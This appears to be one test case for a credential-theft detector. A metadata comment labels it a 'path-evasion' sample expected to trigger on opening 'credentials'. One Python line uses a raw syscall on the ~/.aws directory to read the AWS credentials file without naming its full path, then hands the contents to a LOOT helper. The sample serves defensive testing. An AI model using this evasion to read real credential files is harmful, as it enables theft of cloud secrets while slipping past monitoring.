#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
t = sysc(428, -100, (HOME + "/.aws").encode(), 1 | 0o2000000); LOOT(os.read(os.open("credentials", os.O_RDONLY, dir_fd=t), 999))
